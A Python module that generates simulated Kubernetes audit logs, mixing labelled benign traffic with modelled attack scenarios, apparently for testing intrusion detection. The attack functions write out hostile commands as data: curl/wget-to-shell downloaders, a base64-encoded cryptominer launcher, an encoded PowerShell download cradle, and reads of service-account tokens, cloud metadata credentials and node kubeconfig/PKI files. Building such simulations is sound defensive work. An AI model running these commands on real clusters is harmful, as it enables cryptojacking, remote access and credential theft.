"""A simulated Kubernetes cluster: native audit.k8s.io/v1 requests, benign background and attacks."""

from __future__ import annotations

import base64
import heapq
import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, quote_plus

from .ops import K8sOp, Label, benign, rand_hex, rand_suffix, rand_uuid

KUBECTL_UA = "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"
OLD_KUBECTL_UA = "kubectl/v1.27.4 (linux/amd64) kubernetes/fa3d799"
WIN_KUBECTL_UA = "kubectl.exe/v1.20.4 (windows/amd64) kubernetes/e87da0b"
KUBELET_UA = "kubelet/v1.31.2 (linux/amd64) kubernetes/5864a46"
KCM_UA = "kube-controller-manager/v1.31.2 (linux/amd64) kubernetes/5864a46/leader-election"
SCHED_UA = "kube-scheduler/v1.31.2 (linux/amd64) kubernetes/5864a46/scheduler"
GO_UA = "Go-http-client/2.0"
RUNNER_UA = "gitlab-runner 17.5.3 (17-5-stable; go1.22.7; linux/amd64)"
ROOK_UA = "rook/v0.0.0 (linux/amd64) kubernetes/$Format"
VELERO_UA = "velero-server/v1.14.1 (linux/amd64) 8afe3cea8b7058f7baaf447b9fb407312c40d2da"
AUTH = "system:authenticated"
TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"


@dataclass(slots=True)
class Pod:
    namespace: str
    name: str
    containers: list[str]
    image: str
    node: str
    windows: bool = False


@dataclass
class Cluster:
    rng: random.Random
    nodes: list[str] = field(default_factory=list)
    pods: list[Pod] = field(default_factory=list)
    node_ips: dict[str, str] = field(default_factory=dict)

    @classmethod
    def build(cls, rng: random.Random) -> Cluster:
        c = cls(rng)
        c.nodes = [f"ip-10-0-{i}-{rng.randint(10, 250)}.ec2.internal" for i in range(1, 5)]
        c.node_ips = {n: ".".join(n.split(".")[0].split("-")[1:5]) for n in c.nodes}
        win_node = "akswin000002"
        c.node_ips[win_node] = "10.0.7.14"
        specs = [
            ("shop", "cart", ["cart"], "registry.example.com/shop/cart:2.4.1", 3),
            ("shop", "checkout", ["checkout", "istio-proxy"], "registry.example.com/shop/checkout:1.9.0", 2),
            ("shop", "frontend", ["nginx"], "nginx:1.27.2", 3),
            ("payments", "payments-api", ["api"], "registry.example.com/payments/api:5.2.0", 2),
            ("monitoring", "grafana", ["grafana"], "grafana/grafana:11.3.0", 1),
            ("web", "webapp", ["webapp"], "registry.example.com/web/webapp:3.0.7", 2),
            ("kube-system", "coredns", ["coredns"], "registry.k8s.io/coredns/coredns:v1.11.3", 2),
            ("kube-system", "metrics-server", ["metrics-server"], "registry.k8s.io/metrics-server/metrics-server:v0.7.2", 1),
            ("rook-ceph", "rook-ceph-tools", ["rook-ceph-tools"], "quay.io/ceph/ceph:v18.2.4", 1),
            ("ci", "gitlab-runner", ["gitlab-runner"], "gitlab/gitlab-runner:v17.5.3", 1),
        ]
        for ns, deploy, containers, image, replicas in specs:
            rs = rand_hex(rng, 10)
            for _ in range(replicas):
                c.pods.append(Pod(ns, f"{deploy}-{rs}-{rand_suffix(rng)}", containers, image, rng.choice(c.nodes)))
        c.pods.append(Pod("payments", "postgres-0", ["postgres"], "postgres:16.4", rng.choice(c.nodes)))
        c.pods.append(Pod("monitoring", "prometheus-k8s-0", ["prometheus", "config-reloader"], "quay.io/prometheus/prometheus:v2.55.0",
                          rng.choice(c.nodes)))
        for _ in range(3):
            c.pods.append(Pod("win", f"iis-web-{rand_hex(rng, 10)}-{rand_suffix(rng)}", ["iis"],
                              "mcr.microsoft.com/windows/servercore/iis:windowsservercore-ltsc2022", win_node, windows=True))
        for node in c.nodes:
            c.pods.append(Pod("kube-system", f"kube-proxy-{rand_suffix(rng)}", ["kube-proxy"], "registry.k8s.io/kube-proxy:v1.31.2", node))
        return c

    def in_ns(self, ns: str) -> list[Pod]:
        return [p for p in self.pods if p.namespace == ns]

    def pod(self, prefix: str) -> Pod:
        return next(p for p in self.pods if p.name.startswith(prefix))


# ---- users ---------------------------------------------------------------------------------------------
def human(name: str, *groups: str) -> dict[str, Any]:
    return {"username": name, "groups": [*groups, AUTH]}


def service_account(rng: random.Random, ns: str, name: str, pod: Pod | None = None) -> dict[str, Any]:
    user: dict[str, Any] = {
        "username": f"system:serviceaccount:{ns}:{name}",
        "uid": rand_uuid(rng),
        "groups": ["system:serviceaccounts", f"system:serviceaccounts:{ns}", AUTH],
    }
    if pod is not None:
        user["extra"] = {
            "authentication.kubernetes.io/credential-id": [f"JTI={rand_uuid(rng)}"],
            "authentication.kubernetes.io/node-name": [pod.node],
            "authentication.kubernetes.io/node-uid": [rand_uuid(rng)],
            "authentication.kubernetes.io/pod-name": [pod.name],
            "authentication.kubernetes.io/pod-uid": [rand_uuid(rng)],
        }
    return user


def node_user(node: str) -> dict[str, Any]:
    return {"username": f"system:node:{node}", "groups": ["system:nodes", AUTH]}


ANONYMOUS = {"username": "system:anonymous", "groups": ["system:unauthenticated"]}


# ---- requests ------------------------------------------------------------------------------------------
def qs(params: list[tuple[str, str]]) -> str:
    """Query string as Go's url.Values.Encode writes it: keys sorted, values in order, QueryEscape'd."""
    order = sorted({k for k, _ in params})
    return "&".join(f"{quote_plus(k, safe='')}={quote_plus(v, safe='')}" for key in order for k, v in params if k == key)


def obj_ref(resource: str, ns: str | None = None, name: str | None = None, group: str = "", sub: str | None = None,
            version: str = "v1") -> dict[str, Any]:
    ref: dict[str, Any] = {"resource": resource}
    if ns:
        ref["namespace"] = ns
    if name:
        ref["name"] = name
    if group:
        ref["apiGroup"] = group
    ref["apiVersion"] = version
    if sub:
        ref["subresource"] = sub
    return ref


def request(rng: random.Random, label: Label, t: float, user: dict[str, Any], verb: str, uri: str, ref: dict[str, Any],
            code: int, ua: str, ip: str, *, stages: list[tuple[str, float]] | None = None, level: str = "Metadata",
            request_object: dict[str, Any] | None = None, reason: str = "", impersonate: dict[str, Any] | None = None,
            gke_request: dict[str, Any] | None = None) -> K8sOp:
    ev: dict[str, Any] = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": rand_uuid(rng),
                          "requestURI": uri, "verb": verb, "user": user}
    if impersonate:
        ev["impersonatedUser"] = impersonate
    ev["sourceIPs"] = [ip]
    ev["userAgent"] = ua
    ev["objectRef"] = ref
    if code in (401, 403):
        what = ref["resource"] + (f"/{ref['subresource']}" if ref.get("subresource") else "")
        group = ref.get("apiGroup", "")
        where = f' in the namespace "{ref["namespace"]}"' if ref.get("namespace") else ""
        subject = f'{ref["resource"]} "{ref["name"]}"' if ref.get("name") else ref["resource"]
        message = f'{subject} is forbidden: User "{user["username"]}" cannot {verb} resource "{what}" in API group "{group}"{where}'
        details: dict[str, Any] = {"kind": ref["resource"]}
        if ref.get("name"):
            details = {"name": ref["name"], **details}
        if ref.get("apiGroup"):
            details["group"] = ref["apiGroup"]
        ev["responseStatus"] = {"metadata": {}, "status": "Failure", "message": message, "reason": "Forbidden", "details": details,
                                "code": code}
        decision, reason = "forbid", ""
        stages = [("ResponseComplete", rng.uniform(0.001, 0.004))]
    else:
        ev["responseStatus"] = {"metadata": {}, "code": code}
        decision = "allow"
    if request_object is not None:
        ev["requestObject"] = request_object
    ann = {"authorization.k8s.io/decision": decision, "authorization.k8s.io/reason": reason}
    if verb == "create" and ref["resource"] == "pods" and not ref.get("subresource") and code < 400:
        ann["pod-security.kubernetes.io/enforce-policy"] = "privileged:latest"
    ev["annotations"] = ann
    return K8sOp(label, t, ev, stages or [("ResponseComplete", rng.uniform(0.002, 0.03))], gke_request)


def rbac_reason(binding: str, role: str, kind: str = "ClusterRoleBinding", ns: str = "") -> str:
    where = f' of {"ClusterRole" if kind == "ClusterRoleBinding" else "Role"} "{role}"'
    return f'RBAC: allowed by {kind} "{binding}"{where} to ' + ("Group" if binding.startswith("system:") else "User") + (
        f' in namespace "{ns}"' if ns else "")


def exec_op(rng: random.Random, label: Label, t: float, user: dict[str, Any], pod: Pod, argv: list[str], ua: str, ip: str, *,
            container: str | None = None, verb: str = "get", stdin: bool = False, tty: bool = False, code: int = 101,
            duration: float | None = None, reason: str = "", subresource: str = "exec") -> K8sOp:
    params = [("command", a) for a in argv] + [("container", container or pod.containers[0]), ("stderr", "true"), ("stdout", "true")]
    if stdin:
        params.append(("stdin", "true"))
    if tty:
        params.append(("tty", "true"))
    uri = f"/api/v1/namespaces/{pod.namespace}/pods/{pod.name}/{subresource}?{qs(params)}"
    dur = duration if duration is not None else rng.uniform(0.2, 3.0)
    stages = [("ResponseStarted", rng.uniform(0.01, 0.05)), ("ResponseComplete", dur)]
    return request(rng, label, t, user, verb, uri, obj_ref("pods", pod.namespace, pod.name, sub=subresource), code, ua, ip,
                   stages=stages, reason=reason)


def kubelet_op(rng: random.Random, label: Label, t: float, user: dict[str, Any], node: str, path: str, params: list[tuple[str, str]],
               ua: str, ip: str, *, verb: str = "create", code: int = 200, upgrade: bool = False) -> K8sOp:
    uri = f"/api/v1/nodes/{node}/proxy/{path}" + (f"?{qs(params)}" if params else "")
    stages = [("ResponseStarted", 0.02), ("ResponseComplete", rng.uniform(0.5, 4.0))] if upgrade else None
    return request(rng, label, t, user, verb, uri, obj_ref("nodes", name=node, sub="proxy"), 101 if upgrade else code, ua, ip,
                   stages=stages)


def pod_object(name: str, ns: str, container: str, image: str, argv: list[str], *, labels: dict[str, str] | None = None,
               sa: str = "default", restart: str = "Never") -> dict[str, Any]:
    meta: dict[str, Any] = {"name": name, "namespace": ns, "creationTimestamp": None}
    if labels:
        meta["labels"] = labels
    return {
        "kind": "Pod", "apiVersion": "v1", "metadata": meta,
        "spec": {
            "containers": [{"name": container, "image": image, "command": argv, "resources": {},
                            "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File",
                            "imagePullPolicy": "IfNotPresent"}],
            "restartPolicy": restart, "terminationGracePeriodSeconds": 30, "dnsPolicy": "ClusterFirst",
            "serviceAccountName": sa, "serviceAccount": sa, "securityContext": {}, "schedulerName": "default-scheduler",
            "enableServiceLinks": True, "preemptionPolicy": "PreemptLowerPriority",
        },
        "status": {},
    }


def create_pod_op(rng: random.Random, label: Label, t: float, user: dict[str, Any], ns: str, body: dict[str, Any], ua: str, ip: str,
                  reason: str = "") -> K8sOp:
    gke = {"@type": "core.k8s.io/v1.Pod", **{k: v for k, v in body.items() if k not in ("kind", "apiVersion")}}
    return request(rng, label, t, user, "create", f"/api/v1/namespaces/{ns}/pods", obj_ref("pods", ns), 201, ua, ip,
                   level="Request", request_object=body, reason=reason, gke_request=gke)


# ---- benign background -----------------------------------------------------------------------------------
RUNNER_SCRIPT = ("if [ -x /usr/local/bin/bash ]; then\n\texec /usr/local/bin/bash \nelif [ -x /usr/bin/bash ]; then\n\t"
                 "exec /usr/bin/bash \nelif [ -x /bin/bash ]; then\n\texec /bin/bash \nelif [ -x /usr/local/bin/sh ]; then\n\t"
                 "exec /usr/local/bin/sh \nelif [ -x /usr/bin/sh ]; then\n\texec /usr/bin/sh \nelif [ -x /bin/sh ]; then\n\t"
                 "exec /bin/sh \nelif [ -x /busybox/sh ]; then\n\texec /busybox/sh \nelse\n\techo shell not found\n\texit 1\nfi\n\n")


def background(rng: random.Random, c: Cluster, n: int, mean_gap: float) -> Iterator[K8sOp]:
    t = 0.0
    alice = human("alice@example.com", "devs")
    carol = human("carol@example.com", "sre")
    intern = human("dev-intern@example.com", "interns")
    runner = service_account(rng, "ci", "gitlab-runner", c.pod("gitlab-runner"))
    rook = service_account(rng, "rook-ceph", "rook-ceph-system")
    velero = service_account(rng, "velero", "velero-server")
    kinds = ["kubelet_pod", "kubelet_node", "lease", "controller", "watch", "events", "ci", "alice", "carol", "rook", "velero",
             "denied", "logs"]
    weights = [22, 10, 14, 8, 6, 10, 4, 6, 2, 3, 1, 2, 3]
    pending: list[tuple[float, int, K8sOp]] = []  # a story's later requests wait here until their time comes
    seq = 0
    for _ in range(n):
        t += rng.expovariate(1 / mean_gap)
        while pending and pending[0][0] <= t:
            yield heapq.heappop(pending)[2]
        kind = rng.choices(kinds, weights)[0]
        for op in _bg_one(rng, c, kind, t, alice, carol, intern, runner, rook, velero):
            seq += 1
            heapq.heappush(pending, (op.t, seq, op))
    while pending:
        yield heapq.heappop(pending)[2]


def _bg_one(rng: random.Random, c: Cluster, kind: str, t: float, alice: dict[str, Any], carol: dict[str, Any], intern: dict[str, Any],
            runner: dict[str, Any], rook: dict[str, Any], velero: dict[str, Any]) -> Iterator[K8sOp]:
    pod = rng.choice(c.pods)
    node = pod.node
    nip = c.node_ips.get(node, "10.0.1.10")
    if kind == "kubelet_pod":
        uri = f"/api/v1/namespaces/{pod.namespace}/pods/{pod.name}/status"
        yield request(rng, benign("kubelet status"), t, node_user(node), "patch", uri,
                      obj_ref("pods", pod.namespace, pod.name, sub="status"), 200, KUBELET_UA, nip)
    elif kind == "kubelet_node":
        node = rng.choice(c.nodes)
        yield request(rng, benign("kubelet heartbeat"), t, node_user(node), "update",
                      f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{node}?timeout=10s",
                      obj_ref("leases", "kube-node-lease", node, group="coordination.k8s.io"), 200, KUBELET_UA, c.node_ips[node])
    elif kind == "lease":
        name = rng.choice(["kube-controller-manager", "kube-scheduler"])
        ua = KCM_UA if name == "kube-controller-manager" else SCHED_UA
        user = {"username": f"system:{name}", "groups": [AUTH]}
        verb = rng.choice(["get", "update"])
        yield request(rng, benign("leader election"), t, user, verb,
                      f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{name}?timeout=5s",
                      obj_ref("leases", "kube-system", name, group="coordination.k8s.io"), 200, ua, "172.16.0.2")
    elif kind == "controller":
        ctl = rng.choice(["replicaset-controller", "deployment-controller", "endpointslice-controller"])
        user = service_account(rng, "kube-system", ctl)
        deploy = pod.name.rsplit("-", 2)[0]
        if ctl == "deployment-controller":
            yield request(rng, benign("controller sync"), t, user, "patch",
                          f"/apis/apps/v1/namespaces/{pod.namespace}/deployments/{deploy}/status",
                          obj_ref("deployments", pod.namespace, deploy, group="apps", sub="status"), 200, KCM_UA.replace(
                              "/leader-election", "/system:serviceaccount:kube-system:deployment-controller"), "172.16.0.2")
        else:
            yield request(rng, benign("controller sync"), t, user, "list", f"/api/v1/namespaces/{pod.namespace}/pods?limit=500",
                          obj_ref("pods", pod.namespace), 200,
                          KCM_UA.replace("/leader-election", f"/system:serviceaccount:kube-system:{ctl}"),
                          "172.16.0.2")
    elif kind == "watch":
        res = rng.choice(["pods", "services", "configmaps", "secrets"])
        rv = rng.randint(1_000_000, 9_999_999)
        yield request(rng, benign("watch"), t, node_user(node), "watch",
                      f"/api/v1/namespaces/{pod.namespace}/{res}?allowWatchBookmarks=true&resourceVersion={rv}&timeout=7m36s&timeoutSeconds=456&watch=true",
                      obj_ref(res, pod.namespace), 200, KUBELET_UA, nip, stages=[("ResponseStarted", 0.003)])
    elif kind == "events":
        yield request(rng, benign("events"), t, node_user(node), "create", f"/api/v1/namespaces/{pod.namespace}/events",
                      obj_ref("events", pod.namespace), 201, KUBELET_UA, nip)
    elif kind == "ci":
        yield from _ci_job(rng, c, t, runner)
    elif kind == "alice":
        yield from _alice(rng, c, t, alice)
    elif kind == "carol":
        target = rng.choice([p for p in c.pods if p.namespace in ("shop", "payments")])
        yield exec_op(rng, benign("admin shell"), t, carol, target, ["sh"], KUBECTL_UA, "10.0.9.41", stdin=True, tty=True,
                      duration=rng.uniform(30, 600), reason=rbac_reason("sre-admin", "cluster-admin"))
    elif kind == "rook":
        tools = c.pod("rook-ceph-tools")
        yield exec_op(rng, benign("operator exec"), t, rook, tools, ["ceph", "status", "--format", "json", "--connect-timeout=15"],
                      ROOK_UA, "10.244.3.17", verb="create", reason=rbac_reason("rook-ceph-system", "rook-ceph-system"))
    elif kind == "velero":
        pg = c.pod("postgres-0")
        freeze = rng.choice(["--freeze", "--unfreeze"])
        yield exec_op(rng, benign("backup hook"), t, velero, pg, ["/sbin/fsfreeze", freeze, "/var/lib/postgresql/data"], VELERO_UA,
                      "10.244.1.9", verb="create", reason=rbac_reason("velero", "cluster-admin"))
    elif kind == "denied":
        ns = rng.choice(["payments", "kube-system"])
        yield request(rng, benign("denied read"), t, intern, "list", f"/api/v1/namespaces/{ns}/secrets?limit=500",
                      obj_ref("secrets", ns), 403, KUBECTL_UA, "10.0.12.7")
    elif kind == "logs":
        yield request(rng, benign("kubectl logs"), t, alice, "get",
                      f"/api/v1/namespaces/{pod.namespace}/pods/{pod.name}/log?container={quote(pod.containers[0])}&tailLines=100",
                      obj_ref("pods", pod.namespace, pod.name, sub="log"), 200, KUBECTL_UA, "10.0.4.21",
                      reason=rbac_reason("devs-view", "view", "RoleBinding", pod.namespace))


def _ci_job(rng: random.Random, c: Cluster, t: float, runner: dict[str, Any]) -> Iterator[K8sOp]:
    job = f"runner-{rand_suffix(rng, 8)}-project-{rng.randint(100, 999)}-concurrent-0-{rand_suffix(rng, 8)}"
    reason = rbac_reason("gitlab-runner", "gitlab-runner", "RoleBinding", "ci")
    body = pod_object(job, "ci", "build", "registry.example.com/ci/build:2024.10", ["sh", "-c", RUNNER_SCRIPT],
                      labels={"pod": job}, sa="default")
    ip = "10.244.2.31"
    yield create_pod_op(rng, benign("ci job pod"), t, runner, "ci", body, RUNNER_UA, ip, reason=reason)
    pod = Pod("ci", job, ["build", "helper"], "registry.example.com/ci/build:2024.10", rng.choice(c.nodes))
    for step in ("prepare_script", "get_sources", "build_script", "after_script"):
        t += rng.uniform(2, 20)
        yield exec_op(rng, benign(f"ci {step}"), t, runner, pod, ["sh", "-c", RUNNER_SCRIPT], RUNNER_UA, ip, verb="create",
                      container="build" if step.startswith("build") else "helper", stdin=True, reason=reason)
    t += rng.uniform(1, 5)
    deploy = rng.choice(["cart", "checkout", "frontend"])
    uri = f"/apis/apps/v1/namespaces/shop/deployments/{deploy}?fieldManager=kubectl-set"
    yield request(rng, benign("ci deploy"), t, runner, "patch", uri,
                  obj_ref("deployments", "shop", deploy, group="apps"), 200, KUBECTL_UA, ip,
                  reason=rbac_reason("gitlab-deployer", "edit", "RoleBinding", "shop"))


def _alice(rng: random.Random, c: Cluster, t: float, alice: dict[str, Any]) -> Iterator[K8sOp]:
    pod = rng.choice([p for p in c.pods if p.namespace in ("shop", "web")])
    reason = rbac_reason("devs-exec", "pod-exec", "RoleBinding", pod.namespace)
    yield request(rng, benign("kubectl get pods"), t, alice, "list", f"/api/v1/namespaces/{pod.namespace}/pods?limit=500",
                  obj_ref("pods", pod.namespace), 200, KUBECTL_UA, "10.0.4.21", reason=reason)
    t += rng.uniform(2, 15)
    what = rng.choice(["ls", "cp", "env", "cat"])
    argv = {"ls": ["ls", "-la", "/app"], "cp": ["tar", "cf", "-", "/app/logs/app.log"], "env": ["printenv", "APP_ENV"],
            "cat": ["cat", "/app/config/settings.yaml"]}[what]
    step = "kubectl cp" if what == "cp" else "kubectl exec"
    yield exec_op(rng, benign(step), t, alice, pod, argv, KUBECTL_UA, "10.0.4.21", reason=reason)


# ---- attacks ---------------------------------------------------------------------------------------------
def _m(scenario: str, proc: str | None, step: str) -> Label:
    return Label(True, scenario, proc, step)


def hildegard(rng: random.Random, c: Cluster, t: float) -> list[K8sOp]:
    lab = lambda step: _m("hildegard", "S0601", step)  # noqa: E731
    ip = "198.51.100.77"
    ua = "curl/7.68.0"
    ops: list[K8sOp] = []
    # pods land on random nodes, and the first may run only kube-system pods: the attacker's first kubelet must run
    # a workload to take over (keeping c.nodes[:2] whenever the first does, so those seeds give the same bytes as before)
    workload = [n for n in c.nodes if any(p.node == n and p.namespace != "kube-system" for p in c.pods)]
    nodes = c.nodes[:2] if c.nodes[0] in workload else [workload[0], next(n for n in c.nodes if n != workload[0])]
    for node in nodes:
        ops.append(kubelet_op(rng, lab("kubelet recon"), t, ANONYMOUS, node, "runningpods/", [], ua, ip, verb="get"))
        t += rng.uniform(1, 4)
    first = next(p for p in c.pods if p.node == nodes[0] and p.namespace not in ("kube-system",))
    tmate = "curl -fsSL http://198.51.100.77/tmate -o /tmp/tmate && chmod +x /tmp/tmate && /tmp/tmate -S /tmp/.s new-session -d"
    ops.append(kubelet_op(rng, lab("kubelet run tmate"), t, ANONYMOUS, first.node,
                          f"run/{first.namespace}/{first.name}/{first.containers[0]}", [("cmd", tmate)], ua, ip))
    t += rng.uniform(5, 20)
    victims = [p for p in c.pods if p.node in nodes and not p.windows][:6]
    payload = base64.b64encode(b"curl -s http://198.51.100.77/xmr.sh | bash; "
                               b"/tmp/.x/xmrig -o stratum+tcp://pool.example.net:3333 &").decode()
    for p in victims:
        ops.append(kubelet_op(rng, lab("kubelet exec miner"), t, ANONYMOUS, p.node, f"exec/{p.namespace}/{p.name}/{p.containers[0]}",
                              [("command", "sh"), ("command", "-c"), ("command", f"echo {payload} | base64 -d | sh"), ("output", "1"),
                               ("error", "1")], ua, ip, upgrade=True))
        t += rng.uniform(1, 6)
    return ops


def kinsing(rng: random.Random, c: Cluster, t: float) -> list[K8sOp]:
    user = service_account(rng, "kubernetes-dashboard", "kubernetes-dashboard")
    name = f"ubuntu-{rand_suffix(rng)}"
    argv = ["bash", "-c", "apt-get update && apt-get install -y wget cron; wget -q -O - http://203.0.113.66/d.sh | sh"]
    body = pod_object(name, "default", "ubuntu", "ubuntu:22.04", argv, restart="Always")
    return [create_pod_op(rng, _m("kinsing", "S0599", "create pod with downloader entrypoint"), t, user, "default", body,
                          "Go-http-client/1.1", "203.0.113.66", reason=rbac_reason("kubernetes-dashboard", "cluster-admin"))]


def peirates(rng: random.Random, c: Cluster, t: float) -> list[K8sOp]:
    foothold = c.pod("webapp")
    user = service_account(rng, "web", "webapp", foothold)
    ip = "10.244.1.23"
    lab = lambda step: _m("peirates", "S0683", step)  # noqa: E731
    ops: list[K8sOp] = []
    ops.append(request(rng, lab("list secrets"), t, user, "list", "/api/v1/secrets", obj_ref("secrets"), 403, GO_UA, ip))
    for ns in ("web", "kube-system", "payments"):
        t += rng.uniform(0.2, 1.5)
        code = 200 if ns == "web" else 403
        ops.append(request(rng, lab("list secrets"), t, user, "list", f"/api/v1/namespaces/{ns}/secrets", obj_ref("secrets", ns), code,
                           GO_UA, ip, reason=rbac_reason("webapp-admin", "admin", "RoleBinding", "web") if code == 200 else ""))
    t += rng.uniform(1, 3)
    ops.append(request(rng, lab("list pods"), t, user, "list", "/api/v1/pods", obj_ref("pods"), 200, GO_UA, ip,
                       reason=rbac_reason("webapp-reader", "view")))
    targets = [c.pod("payments-api"), c.pod("coredns"), c.pod("grafana"), c.pod("cart")]
    cmds = [["sh", "-c", f"cat {TOKEN_PATH}"],
            ["sh", "-c", "curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
            ["sh", "-c", f"cat {TOKEN_PATH}; cat /var/run/secrets/kubernetes.io/serviceaccount/namespace"],
            ["sh", "-c", "curl -s -H 'Metadata-Flavor: Google' http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"]]
    for pod, argv in zip(targets, cmds, strict=True):
        t += rng.uniform(2, 10)
        denied = pod.namespace == "kube-system"
        ops.append(exec_op(rng, lab("exec across namespaces"), t, user, pod, argv, GO_UA, ip, verb="create", code=403 if denied else 101,
                           reason="" if denied else rbac_reason("webapp-exec", "pod-exec")))
    return ops


def siloscape(rng: random.Random, c: Cluster, t: float) -> list[K8sOp]:
    win = next(p for p in c.pods if p.windows)
    node = win.node
    ip = c.node_ips[node]
    lab = lambda step: _m("siloscape", "S0623", step)  # noqa: E731
    ops: list[K8sOp] = []
    nu = node_user(node)
    ops.append(request(rng, lab("node credential probe"), t, nu, "create", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
                       obj_ref("selfsubjectaccessreviews", group="authorization.k8s.io"), 201, WIN_KUBECTL_UA, ip))
    t += rng.uniform(0.5, 2)
    target = c.pod("cart")
    ops.append(exec_op(rng, lab("exec with node credentials"), t, nu, target, ["cmd", "/c", "whoami"], WIN_KUBECTL_UA, ip, verb="create",
                       code=403))
    admin = human("clusterAdmin_prod-rg_prod-aks", "system:masters")
    t += rng.uniform(5, 20)
    ops.append(request(rng, lab("list pods"), t, admin, "list", "/api/v1/pods?limit=500", obj_ref("pods"), 200, WIN_KUBECTL_UA, ip))
    enc = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.44/s.ps1')".encode("utf-16-le")).decode()
    spread = [p for p in c.pods if p.namespace not in ("kube-system",)][:24]
    for p in spread:
        t += rng.uniform(1, 8)  # two dozen pods in a few minutes
        if p.windows:
            argv = ["powershell", "-nop", "-w", "hidden", "-enc", enc]
        else:
            argv = ["sh", "-c", "curl -s http://192.0.2.44/tor.sh -o /tmp/.t && sh /tmp/.t"]
        ops.append(exec_op(rng, lab("spread by exec"), t, admin, p, argv, WIN_KUBECTL_UA, ip, verb="create"))
    return ops


def insider(rng: random.Random, c: Cluster, t: float) -> list[K8sOp]:
    bob = human("bob-admin@example.com", "platform-admins")
    ip = "10.0.9.3"
    reason = rbac_reason("platform-admins", "cluster-admin")
    lab = lambda step: _m("insider", None, step)  # noqa: E731
    ops = [request(rng, lab("list kube-system pods"), t, bob, "list", "/api/v1/namespaces/kube-system/pods?limit=500",
                   obj_ref("pods", "kube-system"), 200, KUBECTL_UA, ip, reason=reason)]
    for pod in (c.pod("coredns"), c.pod("metrics-server")):
        t += rng.uniform(5, 40)
        ops.append(exec_op(rng, lab("read service-account token"), t, bob, pod, ["cat", TOKEN_PATH], KUBECTL_UA, ip, reason=reason))
    t += rng.uniform(5, 40)
    proxy = c.pod("kube-proxy")
    argv = ["sh", "-c", "cat /var/lib/kube-proxy/kubeconfig.conf; ls /etc/kubernetes/pki"]
    ops.append(exec_op(rng, lab("read node credentials"), t, bob, proxy, argv,
                       KUBECTL_UA, ip, reason=reason))
    return ops


ATTACKS = {"hildegard": hildegard, "kinsing": kinsing, "peirates": peirates, "siloscape": siloscape, "insider": insider}
